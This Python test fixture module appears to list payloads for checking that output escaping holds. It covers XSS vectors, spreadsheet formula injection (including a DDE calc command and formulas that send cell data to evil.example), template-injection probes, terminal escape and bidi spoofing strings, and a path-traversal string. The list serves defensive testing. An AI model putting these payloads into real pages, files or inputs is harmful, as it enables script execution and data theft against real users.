"""A hundred names that would do something wherever they were not taken as text.

Each that runs a script calls `hit()`, which the tests define; each that fetches asks
`http://evil.example`, where nothing may ever be asked for.
"""

from __future__ import annotations

URL = "http://evil.example/x"

#: The nastiest first: a small report has only some of them as its classes.
HTML = (
    "<script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "</script><script>hit()</script>",
    "</style><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    f'<script src="{URL}.js"></script>',
    "<img src=x onerror=hit()>",
    '"><img src=x onerror="hit()">',
    f'<img src="{URL}.png">',
    f"<img srcset='{URL}.png 1x'>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    f'<svg><use href="{URL}.svg#a"/></svg>',
    f'<svg><image href="{URL}.png"/></svg>',
    '<svg><animate onbegin="hit()" attributeName="x" dur="1s"/></svg>',
    "<math><mtext><script>hit()</script></mtext></math>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    '<a href="javascript:hit()" autofocus>x</a>',
    f'<iframe src="{URL}"></iframe>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    f'<object data="{URL}"></object>',
    f'<embed src="{URL}">',
    f'<link rel="stylesheet" href="{URL}.css">',
    f'<link rel="prefetch" href="{URL}">',
    f'<base href="{URL}/">',
    f'<meta http-equiv="refresh" content="0;url={URL}">',
    f"<style>@import '{URL}.css';</style>",
    f"<style>*{{background:url({URL}.png)}}</style>",
    f'<video poster="{URL}.png"><source src="{URL}.mp4" onerror="hit()"></video>',
    f'<form action="{URL}"><button autofocus>x</button></form>',
    "<template><script>hit()</script></template>",
    "<noscript><img src=x onerror=hit()></noscript>",
    '" onmouseover="hit()" x="',
    "' onfocus='hit()' autofocus tabindex=0 x='",
    '" style="background:url(http://evil.example/x.png)" x="',
    "`onload=hit()`",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "<ScRiPt >hit()</sCrIpT>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "<scr\0ipt>hit()</scr\0ipt>",
    "<scr\nipt>hit()</scr\nipt>",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "<table><tr><td>",
    "</td></tr></table><script>hit()</script>",
    "</svg><script>hit()</script>",
    "</main></body></html><script>hit()</script>",
)
MARKDOWN = (
    f"![x]({URL}.png)",
    f"![x][y]\n\n[y]: {URL}.png",
    "[x](javascript:hit())",
    f"[x]({URL})",
    f"<{URL}>",
    URL,
    "www.evil.example",
    "x|y|z",
    "\\|x\\",
    "`x` | ``y``",
    "```\nx\n```",
    "~~~html\n<script>hit()</script>\n~~~",
    "# x",
    "- x\n- y",
    "> x",
    "***",
    "$$\\href{javascript:hit()}{x}$$",
    "| --- |\n| x |",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '="x"&"y"',
    '"=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n-1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff201+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?";A1);"//a")',
    '=WEBSERVICE("http://evil.example/")',
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% import os %}",
    "${hit()}",
    "#{7*7}",
    "%s%n%x",
    "datum.hit()",
    "{'signal': 'hit()'}",
)
#: One of all that controls, breaks, turns or joins, and letters that aren't there.
STEERING = (
    "a\x1b[31m\x9b2J\x07\r\u202e\u2066\u2068\u200e\u200f\u200d\u2028\u2029\ufeff\u0378\ue000z"
)
TERMINAL = (
    STEERING,
    "\x1b[2J\x1b]0;x\a",
    "\x9b2J",
    "[bold]x[/bold][link=http://evil.example]y[/link]",
    "\u202egnp.exe",
    "\u2066x\u2069\u200b\ufeff",
    "a\u2028b\u2029c",
    "..",
    "../../../etc/passwd",
    "CON",
    "x" * 5_000,
)

PAYLOADS = (*HTML, *MARKDOWN, *FORMULAS, *TEMPLATES, *TERMINAL)
